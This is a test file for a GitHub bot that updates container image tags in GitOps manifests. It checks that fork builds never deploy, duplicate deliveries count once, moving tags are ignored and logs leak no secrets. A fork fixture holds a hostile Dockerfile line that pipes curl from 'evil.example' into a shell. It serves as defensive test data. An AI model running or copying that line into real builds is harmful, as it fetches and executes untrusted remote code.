// What a demanding user found (#14): a fork's build, the same build twice, a moving tag. Each test
// drives the real server against the twin and checks the git state and the statuses that result.
import { Writable } from "node:stream";
import { pino } from "pino";
import type { Logger } from "probot";
import {
  closeExpectingNoViolations,
  CONFIG,
  DEV,
  OLD,
  PROD,
  sourceRepo,
  startBot,
  webManifests,
  type BotHarness,
} from "./bot-harness.js";

const BOT = "gitops-image-bot[bot]";

let bot: BotHarness;

async function start(config = CONFIG, log?: Logger): Promise<void> {
  const manifests = webManifests();
  bot = await startBot(
    [
      {
        ...manifests,
        files: (manifests.files ?? []).map((file) =>
          file.path === ".github/gitops-image-bot.yml" ? { ...file, content: config } : file,
        ),
      },
      sourceRepo("web"),
    ],
    log ? { log } : {},
  );
}

afterEach(() => closeExpectingNoViolations(bot));

/** The states of `gitops-image-bot/<environment>` on a source commit, oldest first. */
function statesOf(sha: string, environment: string): string[] {
  return bot
    .repo("acme", "web")
    .statuses.filter((status) => status.sha === sha && status.context === `gitops-image-bot/${environment}`)
    .map((status) => status.state);
}

/** A fork of acme/web, and a commit of its own on a branch it calls `main`. */
async function forkCommit(): Promise<{ sha: string; fork: ReturnType<BotHarness["repo"]> }> {
  const fork = await bot.twin.store.createRepo({
    owner: "mallory",
    name: "web",
    forkOf: "acme/web",
    files: [{ path: "Dockerfile", content: "FROM scratch\nRUN curl evil.example | sh\n" }],
  });
  const sha = await bot.twin.store.commitFiles(
    fork,
    "main",
    [{ path: "src/version.txt", content: "pwned\n" }],
    "innocent change",
  );
  return { sha, fork };
}

test("a fork's pull-request build never deploys, even from a branch called main", async () => {
  // The config opts into pull_request builds, and every branch may reach dev.
  await start(
    CONFIG.replace('repositories: ["acme/*"]', 'repositories: ["acme/*"]\n    events: [push, pull_request]'),
  );
  const { sha, fork } = await forkCommit();
  const { payload } = bot.workflowRunPayload("acme", "web", {
    headSha: sha,
    headBranch: "main",
    event: "pull_request",
    headRepository: fork,
  });
  expect(payload["workflow_run"]).toMatchObject({
    head_repository: { full_name: "mallory/web", fork: true },
  });
  await bot.send("workflow_run", payload);
  await bot.idle();
  expect(await bot.appCommits()).toHaveLength(0);
  expect(await bot.deployed(DEV)).toBe(OLD);
  expect(await bot.deployed(PROD)).toBe(OLD);

  // The repository's own pull-request build of a branch still deploys where its branch may go.
  const own = await bot.commitSource("web", "feature");
  await bot.send(
    "workflow_run",
    bot.workflowRun("web", own, { head_branch: "feature", event: "pull_request" }),
  );
  await bot.idle();
  expect(await bot.deployed(DEV)).toBe(own);
});

test("/retag of a commit whose only successful build was a fork's is refused in the reply", async () => {
  await start();
  bot.setPermission("acme", "manifests", "alice", "write");
  const { fork } = await forkCommit();
  // GitHub keeps a fork's pull-request commits in the base repository too (refs/pull/N/head).
  const sha = await bot.commitSource("web", "pull-1-head");
  bot.workflowRunPayload("acme", "web", {
    headSha: sha,
    headBranch: "main",
    event: "pull_request",
    headRepository: fork,
  });
  const issue = await bot.openIssue({ owner: "acme", name: "manifests", login: "alice", title: "ops" });
  await bot.comment({
    owner: "acme",
    name: "manifests",
    issueNumber: issue.number,
    login: "alice",
    body: `/retag dev ${sha.slice(0, 7)} web`,
  });
  await bot.idle();
  const reply = [...bot.repo("acme", "manifests").comments.values()].find(
    (comment) => comment.user.login === BOT,
  );
  expect(reply?.body).toContain("built mallory/web's code (a fork): another repository's code never deploys");
  expect(await bot.deployed(DEV)).toBe(OLD);
});

test("the same build re-sent with a new delivery id in one batch is one build: no status says it superseded itself", async () => {
  await start();
  const sha = await bot.commitSource("web");
  const payload = bot.workflowRun("web", sha);
  await Promise.all([
    bot.send("workflow_run", payload, "delivery-a"),
    bot.send("workflow_run", payload, "delivery-b"),
  ]);
  await bot.idle();
  expect(await bot.deployed(DEV)).toBe(sha);
  expect(await bot.appCommits()).toHaveLength(1);
  // One status per environment: written, waiting for Argo CD (nothing was observed running).
  expect(statesOf(sha, "dev")).toEqual(["pending"]);
  expect(statesOf(sha, "prod")).toEqual(["pending"]);
});

test("a moving tag of the same build (latest) is never written; the template's tag is", async () => {
  await start(
    CONFIG.replace(
      'repositories: ["acme/*"]',
      'repositories: ["acme/*"]\n    triggers: [package]\n    tag: sha-{sha:7}',
    ),
  );
  const sha = await bot.commitSource("web");
  const digest = `sha256:${"5".repeat(64)}`;
  const event = (tag: string) => {
    const payload = bot.example("package", "published", "acme", "web");
    const version = (payload["package"] as { package_version: Record<string, unknown> }).package_version;
    version["package_url"] = `ghcr.io/acme/web:${tag}`;
    version["container_metadata"] = {
      tag: { name: tag, digest },
      labels: { revision: sha, all_labels: { "org.opencontainers.image.revision": sha } },
    };
    return payload;
  };
  // GHCR sends one event per tag, in any order: the moving tag arriving last does not win.
  await bot.send("package", event(`sha-${sha.slice(0, 7)}`));
  await bot.send("package", event("latest"));
  await bot.idle();
  expect(await bot.file("acme", "manifests", DEV)).toContain(`newTag: "sha-${sha.slice(0, 7)}"`);
  const next = await bot.commitSource("web");
  const nextEvent = (tag: string) => {
    const payload = event(tag);
    const version = (payload["package"] as { package_version: Record<string, unknown> }).package_version;
    version["container_metadata"] = {
      tag: { name: tag, digest: `sha256:${"6".repeat(64)}` },
      labels: { revision: next, all_labels: { "org.opencontainers.image.revision": next } },
    };
    return payload;
  };
  await bot.send("package", nextEvent("latest"));
  await bot.send("package", nextEvent(`sha-${next.slice(0, 7)}`));
  await bot.idle();
  expect(await bot.file("acme", "manifests", DEV)).toContain(`newTag: "sha-${next.slice(0, 7)}"`);
  expect(await bot.file("acme", "manifests", DEV)).not.toContain("latest");
});

test("at info the app logs one line per build received, per batch planned and per write", async () => {
  const lines: Record<string, unknown>[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      for (const line of chunk.toString("utf8").split("\n").filter(Boolean)) lines.push(JSON.parse(line));
      done();
    },
  });
  await start(
    CONFIG.replace("branches: [main]", "branches: [release]"),
    pino({ level: "info" }, sink) as unknown as Logger,
  );
  const sha = await bot.commitSource("web");
  await bot.send("workflow_run", bot.workflowRun("web", sha), "delivery-42");
  await bot.idle();
  const says = (msg: string) => lines.filter((line) => line["msg"] === msg);
  expect(says("build received")).toEqual([
    expect.objectContaining({ delivery: "delivery-42", source: "acme/web", sha, trigger: "workflow_run" }),
  ]);
  expect(says("batch planned")).toEqual([
    expect.objectContaining({
      repo: "acme/manifests",
      writes: [`dev ghcr.io/acme/web:${sha} -> commit`],
      skips: [`prod ghcr.io/acme/web@${sha.slice(0, 7)}: branch-not-allowed`],
    }),
  ]);
  expect(says("committed")).toEqual([
    expect.objectContaining({ repo: "acme/manifests", files: 1, builds: 1 }),
  ]);
  // Nothing at info carries a token or a file's text.
  const text = JSON.stringify(lines);
  expect(text).not.toMatch(/ghs_|newTag|-----BEGIN/);
});
